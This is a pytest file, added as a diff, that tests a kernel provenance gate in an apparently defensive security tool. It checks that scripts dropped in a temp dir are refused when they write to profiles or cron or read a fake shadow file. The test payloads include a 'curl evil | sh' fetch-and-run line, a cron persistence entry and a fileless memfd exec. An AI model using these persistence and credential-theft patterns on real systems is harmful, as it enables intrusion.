@@ -1,0 +1,337 @@
+"""Issue 15: the must-stop file acts of an untrusted tree refused at the open (compat
+tier), not killed after.  The kernel's provenance map (bpf/lib/prov.h, set at exec,
+inherited at fork, dropped at exit) read by the fanotify provenance gate.
+
+Scope: the "temp dir" the provenance map names is the test's own ``drop`` directory;
+the gate marks only the test's own "persistence" and "credential" files; the gate is
+scoped to the test cgroup with a dead-man deadline.  Before the gate, every attack
+below did its act (the compat tier killed after the syscall: docs/detection.md)."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+import sys
+import tempfile
+import time
+from pathlib import Path
+from typing import Iterator
+
+import pytest
+
+from bastion import abi
+from bastion.enforce.provgate import GateObject, ProvenanceGate
+from bastion.events import HipsEvent
+from bastion.sensors.bpf import BpfSensor
+from bastion.sensors.provenance import ProvenanceMap, default_interpreters
+from support.cg import run_in, scoped_cgroup
+
+DEADLINE_S = 90.0
+TIMEOUT = 20
+
+
+class Env:
+    def __init__(self, root: Path, cg: Path, prov: ProvenanceMap, gate: ProvenanceGate) -> None:
+        self.root, self.cg, self.prov, self.gate = root, cg, prov, gate
+        self.drop = root / "drop"
+        self.profile = root / "home" / ".bashrc"
+        self.cron = root / "cron.d"
+        self.secret = root / "creds" / "shadow"
+
+    def run(self, argv: list[str], **kw: object) -> subprocess.CompletedProcess[str]:
+        return run_in(self.cg, argv, timeout=TIMEOUT, **kw)
+
+    def script(self, name: str, body: str, *, shebang: bool = False) -> Path:
+        p = self.drop / name
+        p.write_text(("#!/bin/sh\n" if shebang else "") + body)
+        p.chmod(0o755)
+        return p
+
+    def events(self, n: int = 1, timeout_s: float = 3.0) -> list[HipsEvent]:
+        out: list[HipsEvent] = []
+        end = time.monotonic() + timeout_s
+        while len(out) < n and time.monotonic() < end:
+            out += self.gate.poll(0.1)
+        return out
+
+
+@pytest.fixture
+def env() -> Iterator[Env]:
+    # a short root: the prefixes of the provenance map are at most 63 bytes
+    tmp_path = Path(tempfile.mkdtemp(prefix="bprov-"))
+    try:
+        yield from _env(tmp_path)
+    finally:
+        shutil.rmtree(tmp_path)
+
+
+def _env(tmp_path: Path) -> Iterator[Env]:
+    for d in ("drop", "home", "cron.d", "creds"):
+        (tmp_path / d).mkdir()
+    (tmp_path / "home" / ".bashrc").write_text("# profile\n")
+    (tmp_path / "cron.d" / "job").write_text("# cron\n")
+    (tmp_path / "creds" / "shadow").write_text("root:$6$secret:1:0:99999:7:::\n")
+    with scoped_cgroup() as (cg, cgid):
+        sensor = BpfSensor(cgroup_id=cgid, classes=("exec",), ring_bytes=1 << 20)
+        sensor.open()
+        try:
+            prov = sensor.provenance()
+            prov.set_dirs([str(tmp_path / "drop")])
+            assert prov.set_interpreters(default_interpreters()) >= 1
+            gate = ProvenanceGate(prov, scope_cgroup_id=cgid, deadline_s=DEADLINE_S,
+                                  decision_timeout_s=0.5, self_tgid=os.getpid())
+            try:
+                gate.start()
+                assert gate.apply([
+                    GateObject(str(tmp_path / "home" / ".bashrc"), "persistence"),
+                    GateObject(str(tmp_path / "cron.d"), "persistence"),
+                    GateObject(str(tmp_path / "creds" / "shadow"), "credential"),
+                    GateObject(str(tmp_path / "home"), "profile-dir"),
+                ]) == []
+                yield Env(tmp_path, cg, prov, gate)
+            finally:
+                gate.close()
+        finally:
+            sensor.close()
+
+
+PROFILE = "# profile\n"
+
+
+def test_tmp_script_appending_to_a_profile_as_its_last_step_is_refused(env: Env) -> None:
+    p = env.script("payload.sh", f"echo 'curl evil | sh' >> {env.profile}\n")
+    r = env.run(["/bin/sh", str(p)])
+    assert r.returncode != 0
+    assert "Operation not permitted" in r.stderr
+    assert env.profile.read_text() == PROFILE
+    evs = env.events()
+    assert [(e.action, e.op, e.path, e.enforced) for e in evs] == [
+        ("deny", "open-write", str(env.profile), True)]
+    (d,) = env.gate.decisions()
+    assert d.reasons == ("tmp-script",) and d.prevented.startswith("write to persistence object")
+
+
+def test_tmp_script_reading_a_credential_store_gets_eperm(env: Env) -> None:
+    p = env.script("hunt.sh", f"cat {env.secret}\n")
+    r = env.run(["/bin/bash", str(p)])
+    assert r.returncode != 0 and "secret" not in r.stdout
+    assert "Operation not permitted" in r.stderr
+    evs = env.events()
+    assert [(e.action, e.op, e.path) for e in evs] == [("deny", "open-read", str(env.secret))]
+
+
+def test_shebang_script_run_by_path_and_a_cron_drop_are_refused(env: Env) -> None:
+    p = env.script("drop.sh", f"echo '* * * * * root sh /tmp/x' > {env.cron}/evil\n",
+                   shebang=True)
+    r = env.run([str(p)])
+    assert r.returncode != 0
+    # O_CREAT in a marked directory: refused at the open, the empty file stays (fanotify
+    # decides opens, not creates: docs/threat-model.md); nothing was written into it
+    if (env.cron / "evil").exists():
+        assert (env.cron / "evil").read_text() == ""
+    assert any(e.action == "deny" and e.path == str(env.cron / "evil") for e in env.events())
+
+
+def test_a_fork_chain_inherits(env: Env) -> None:
+    p = env.script("chain.sh", "sh -c \"(sleep 0.1; echo x >> " + str(env.profile)
+                   + ") & wait\"\n")
+    r = env.run(["/bin/sh", str(p)])
+    assert "Operation not permitted" in r.stderr
+    assert env.profile.read_text() == PROFILE
+    assert [e.action for e in env.events()] == ["deny"]
+
+
+def test_an_admin_non_interactive_shell_is_allowed(env: Env) -> None:
+    r = env.run(["/bin/sh", "-c", f"echo admin >> {env.profile}; cat {env.secret}"])
+    assert r.returncode == 0, r.stderr
+    assert env.profile.read_text() == PROFILE + "admin\n" and "secret" in r.stdout
+    assert env.events(timeout_s=0.5) == []
+
+
+def test_a_trusted_tool_by_inode_is_allowed_and_a_renamed_copy_in_tmp_is_not(env: Env) -> None:
+    tee = shutil.which("tee")
+    assert tee
+    r = env.run(["/bin/sh", "-c", f"echo ok | {tee} -a {env.profile}"])
+    assert r.returncode == 0 and env.profile.read_text() == PROFILE + "ok\n"
+    fake = env.drop / "crontab"       # a trusted tool's name, the dropper's copy
+    shutil.copy2(tee, fake)
+    r = env.run(["/bin/sh", "-c", f"echo evil | {fake} -a {env.profile}"])
+    assert r.returncode != 0 and env.profile.read_text() == PROFILE + "ok\n"
+    (d,) = [d for d in env.gate.decisions() if d.action == "deny"]
+    assert d.reasons == ("tmp-binary",)
+    # the real tool run by a /tmp script is the script's tree: refused too (chosen)
+    p = env.script("viatool.sh", f"echo evil | {tee} -a {env.profile}\n")
+    r = env.run(["/bin/sh", str(p)])
+    assert r.returncode != 0 and env.profile.read_text() == PROFILE + "ok\n"
+
+
+def test_reads_of_a_persistence_object_stay_allowed(env: Env) -> None:
+    p = env.script("reader.sh", f"cat {env.profile}\n")
+    r = env.run(["/bin/sh", str(p)])
+    assert r.returncode == 0 and r.stdout == PROFILE
+
+
+def _spawn_waiting(env: Env, script: Path) -> subprocess.Popen[str]:
+    """A shell in the test cgroup that runs ``script`` once told to (stdin line)."""
+    shell = f'echo $$ > {env.cg}/cgroup.procs && read go && /bin/sh {script}'
+    return subprocess.Popen(["/bin/sh", "-c", shell], stdin=subprocess.PIPE, text=True,
+                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+
+
+def _start_ns(pid: int) -> int:
+    from bastion.kernel.opener import stat_ppid_start
+    return stat_ppid_start(pid)[1]
+
+
+@pytest.mark.parametrize("extra,allowed", [(0, True), (abi.PROV_NETWORK_BINARY, False)])
+def test_the_admin_session_bit_exempts_only_local_reasons(env: Env, extra: int,
+                                                          allowed: bool) -> None:
+    p = env.script("mine.sh", f"echo by-hand >> {env.profile}\n")
+    proc = _spawn_waiting(env, p)
+    try:
+        time.sleep(0.2)
+        assert env.prov.add(proc.pid, _start_ns(proc.pid), abi.PROV_ADMIN_TTY | extra)
+        out, err = proc.communicate("go\n", timeout=TIMEOUT)
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+            proc.wait()
+    assert (env.profile.read_text() == PROFILE + "by-hand\n") is allowed, err
+    evs = env.events()
+    assert [e.action for e in evs] == (["audit"] if allowed else ["deny"])
+
+
+def test_a_reason_filled_from_user_space_applies_to_the_next_open(env: Env) -> None:
+    """network-binary/network-service/decoded-payload come from the agent: the map
+    entry it writes is read by the very next decision (the race is the agent's lag)."""
+    p = env.script("later.sh", "true\n")   # only to have a script; the shell is clean
+    proc = subprocess.Popen(["/bin/sh", "-c", f'echo $$ > {env.cg}/cgroup.procs && read go '
+                             f'&& echo fetched >> {env.profile}'],
+                            stdin=subprocess.PIPE, text=True, stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE)
+    try:
+        time.sleep(0.2)
+        assert env.prov.get(proc.pid) is None
+        assert env.prov.add(proc.pid, _start_ns(proc.pid), abi.PROV_DECODED_PAYLOAD)
+        _out, err = proc.communicate("go\n", timeout=TIMEOUT)
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+            proc.wait()
+    assert p.exists() and "Operation not permitted" in err
+    assert env.profile.read_text() == PROFILE
+
+
+def test_the_entry_lives_as_long_as_the_process(env: Env) -> None:
+    p = env.script("pid.sh", "echo $$; read go\n")
+    proc = subprocess.Popen(["/bin/sh", "-c", f'echo $$ > {env.cg}/cgroup.procs && exec /bin/sh {p}'],
+                            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+    try:
+        assert proc.stdout is not None
+        pid = int(proc.stdout.readline())
+        val = env.prov.get(pid)
+        assert val is not None and val.reasons == abi.PROV_TMP_SCRIPT
+        assert val.origin_tgid == pid and val.start_ns > 0
+        proc.communicate("go\n", timeout=TIMEOUT)
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+            proc.wait()
+    assert env.prov.get(pid) is None     # dropped at exit: a reused pid inherits nothing
+
+
+def test_a_new_profile_in_a_home_directory_is_refused_other_files_are_not(env: Env) -> None:
+    home = env.profile.parent
+    p = env.script("newprof.sh", f"echo evil > {home}/.bash_profile; echo notes > {home}/notes\n")
+    r = env.run(["/bin/sh", str(p)])
+    assert "Operation not permitted" in r.stderr
+    assert (home / ".bash_profile").read_text() == ""   # created by O_CREAT, never written
+    assert (home / "notes").read_text() == "notes\n"
+    assert [(e.action, e.path) for e in env.events()] == [("deny", str(home / ".bash_profile"))]
+
+
+def test_a_binary_too_deep_to_name_in_full_is_still_placed_by_inode(env: Env) -> None:
+    """The exe's path is cut past 256 bytes (the string prefix is lost): the dentry
+    walk to the temp dir's inode still finds it."""
+    tee = shutil.which("tee")
+    assert tee
+    deep = env.drop
+    for i in range(12):
+        deep = deep / (f"d{i}" + "x" * 28)
+    deep.mkdir(parents=True)
+    fake = deep / "helper"
+    shutil.copy2(tee, fake)
+    assert len(str(fake)) > 256
+    r = env.run(["/bin/sh", "-c", f"echo evil | {fake} -a {env.profile}"])
+    assert r.returncode != 0 and env.profile.read_text() == PROFILE
+    (d,) = env.gate.decisions()
+    assert d.reasons == ("tmp-binary",)
+
+
+def test_the_agent_part_reports_a_deny_finding_with_what_was_prevented() -> None:
+    """AgentGate as the agent runs it: the sensor's maps, the policy's temp dirs, the
+    marks, and each refusal an enforcement finding (action deny, prevented, reasons)."""
+    from bastion.enforce.provgate import GATE_RULE, AgentGate
+
+    root = Path(tempfile.mkdtemp(prefix="bprov-"))
+    try:
+        (root / "drop").mkdir()
+        (root / "etc").mkdir()
+        shadow = root / "etc" / "shadow"
+        shadow.write_text("root:$6$x:1::::::\n")
+        script = root / "drop" / "p.sh"
+        script.write_text(f"cat {shadow}\n")
+        with scoped_cgroup() as (cg, cgid):
+            sensor = BpfSensor(cgroup_id=cgid, classes=("exec",), ring_bytes=1 << 20)
+            sensor.open()
+            mirrored: list[ProvenanceMap] = []
+            part = AgentGate(sensor.provenance, self_tgid=os.getpid(), deadline_s=DEADLINE_S,
+                             scope_cgroup_id=cgid, on_map=mirrored.append,
+                             objects=lambda: [GateObject(str(shadow), "credential")],
+                             tmp_dirs=[str(root / "drop")])
+            try:
+                part.open()
+                assert mirrored and part.unmarked == []
+                r = run_in(cg, ["/bin/sh", str(script)], timeout=TIMEOUT)
+                assert "Operation not permitted" in r.stderr and "$6$" not in r.stdout
+                evs: list[HipsEvent] = []
+                end = time.monotonic() + 3
+                while not evs and time.monotonic() < end:
+                    evs = part.poll(0.1)
+                    time.sleep(0.05)
+                (ev,) = evs
+                f = part.finding(ev)
+                assert f is not None and f.rule == GATE_RULE and f.action == "deny"
+                assert f.severity == "critical" and f.enforced_by == "fanotify-provenance"
+                assert f.evidence["prevented"] == f"read of credential store {shadow}"
+                assert f.evidence["provenance"] == ["tmp-script"]
+                assert part.finding(ev) is None     # reported once
+            finally:
+                part.close()
+                sensor.close()
+    finally:
+        shutil.rmtree(root)
+
+
+def test_dry_run_decides_reports_and_allows(env: Env) -> None:
+    env.gate.dry_run = True
+    p = env.script("dry.sh", f"echo watched >> {env.profile}\n")
+    r = env.run(["/bin/sh", str(p)])
+    assert r.returncode == 0 and env.profile.read_text() == PROFILE + "watched\n"
+    (d,) = env.gate.decisions(timeout_s=3)
+    f = env.gate.finding(d)
+    assert (f.action, f.dry_run, f.severity) == ("would-deny", True, "critical")
+    assert "would be refused" in f.title
+
+
+def test_a_memfd_executable_is_fileless_and_refused(env: Env) -> None:
+    tee = shutil.which("tee")
+    assert tee
+    code = ("import os, sys; fd = os.memfd_create('x', 0); "
+            f"os.write(fd, open({tee!r}, 'rb').read()); "
+            f"os.execve(fd, ['tee', '-a', {str(env.profile)!r}], {{}})")
+    r = env.run([sys.executable, "-c", code], input="evil\n")
+    assert r.returncode != 0 and env.profile.read_text() == PROFILE
+    (d,) = env.gate.decisions(timeout_s=3)
+    assert d.reasons == ("fileless",)
